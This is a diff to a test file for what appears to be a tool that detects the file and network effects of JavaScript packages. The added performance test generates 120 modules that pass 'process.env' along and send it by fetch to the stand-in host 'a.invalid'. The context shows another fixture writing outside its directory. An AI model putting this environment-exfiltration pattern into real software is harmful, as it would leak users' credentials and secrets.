@@ -2,6 +2,7 @@ import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 
 import { behaviourOf } from '../../test/behave.ts';
+import { processorMs } from '../../test/effort.ts';
 
 /** Files, and where they connect to. */
 const CASES: readonly (readonly [string, Readonly<Record<string, string | object>>, string])[] = [
@@ -159,5 +160,16 @@ describe('settle', () => {
       'lib/s.js': `module.exports = to => require('fs').writeFileSync(to, '')`,
     });
     assert.equal(effects.find(one => one.kind === 'writes file')?.target, '<here>/../x');
+  });
+
+  it('what many files hand on to each other is worked out once', () => {
+    const many = 120;
+    const handing = (index: number): string =>
+      `const n = require('./f${(index + 1) % many}'), m = require('./f${(index * 7 + 3) % many}'); module.exports = x => {
+        const r = n({ ...x, a${index}: x }) + m([x, x]); fetch('https://a.invalid/' + x.a + r, { body: n(m(x)) }); return [n(x), m(x), r]; };`;
+    const files = Object.fromEntries(Array.from({ length: many }, (_, index) => [`f${index}.js`, handing(index)]));
+    const before = processorMs();
+    behaviourOf({ ...files, 'index.js': `require('./f0')(process.env);` });
+    assert.ok(processorMs() - before < 3_000);
   });
 });
